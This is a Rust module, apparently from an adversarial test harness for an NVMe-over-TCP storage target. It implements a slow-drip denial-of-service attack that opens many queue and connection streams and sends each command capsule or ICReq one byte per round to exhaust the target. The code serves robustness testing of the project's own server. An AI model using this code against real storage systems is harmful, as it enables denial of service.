//! PDUs that come a byte a round.

use super::{Attack, Attacker};
use crate::hostile::wire::{Session, blocks, capsule, open};
use pumice_nvme::pdu::{Digests, IcReq};
use pumice_nvme::spec::Sgl;
use pumice_nvme::spec::opcode::io as opcode;
use std::io::{self, Write};
use std::net::TcpStream;

/// Connections of an attacker whose ICReq drips, and queues whose capsules do.
const REQUESTS: usize = 25;
const QUEUES: u16 = 32;

struct Drips {
    _admin: Session,
    /// Each with what it has to say, and how much of that is said.
    drips: Vec<(TcpStream, Vec<u8>, usize)>,
}

pub(super) fn begin(attacker: &mut Attacker) -> io::Result<Box<dyn Attack>> {
    let digests = Digests::default();
    let (admin, cntlid) = Session::associate(&attacker.target, &attacker.who)?;
    let mut drips = Vec::new();
    for qid in 1..=QUEUES {
        let (queue, _) = Session::connect(&attacker.target, &attacker.who, (cntlid, qid, 127), digests)?;
        let mut compare = blocks(opcode::COMPARE, 1, 0, 16);
        compare.set_sgl(Sgl::in_capsule(8192));
        drips.push((queue.stream, capsule(&compare, &[9; 8192], digests), 0));
    }
    for _ in 0..REQUESTS {
        let request = IcReq { hpda: 0, digests, maxr2t: 0 }.encode().to_vec();
        drips.push((open(&attacker.target, attacker.who.from)?, request, 0));
    }
    Ok(Box::new(Drips { _admin: admin, drips }))
}

impl Attack for Drips {
    fn round(&mut self, _: &mut Attacker) -> io::Result<()> {
        // Those that the node has closed are over; when all are, the attacker begins anew.
        self.drips.retain_mut(|(stream, bytes, said)| {
            let sent = stream.write_all(&bytes[*said..(*said + 1).min(bytes.len())]);
            *said += 1;
            sent.is_ok() && *said <= bytes.len()
        });
        if self.drips.is_empty() { Err(io::ErrorKind::UnexpectedEof.into()) } else { Ok(()) }
    }
}
